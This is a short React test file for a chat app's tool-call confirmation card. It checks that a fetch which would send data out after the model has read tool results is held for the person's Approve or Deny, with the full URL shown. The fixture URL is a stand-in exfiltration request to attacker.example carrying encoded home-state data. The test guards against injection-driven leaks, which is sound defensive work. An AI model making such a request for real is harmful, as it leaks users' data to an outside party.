// @vitest-environment jsdom
import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ToolCallCard } from '../../src-renderer/chat/ToolCallCard.js';

afterEach(cleanup);

// Issue 15, item 3: a read that would send data out waits for Approve, and
// the person sees the whole URL the request would go to.
describe('a tool call that sends a request out after the model read tool results', () => {
  it('shows the whole URL with Approve and Deny', () => {
    const url = `https://attacker.example/exfil?d=${'light.kitchen%3Doff%26'.repeat(12)}end`;
    const decide = vi.fn();
    render(
      <ToolCallCard
        call={{ id: 'c1', name: 'fetch_text', arguments: { url }, needsConfirmation: true, status: 'pending', sendsTo: url }}
        onDecide={decide}
      />,
    );
    const shown = screen.getByText(url, { selector: 'code' });
    expect(shown.closest('.tool-confirm')).not.toBeNull();
    fireEvent.click(screen.getByRole('button', { name: 'Deny' }));
    expect(decide).toHaveBeenCalledWith('c1', false);
  });
});
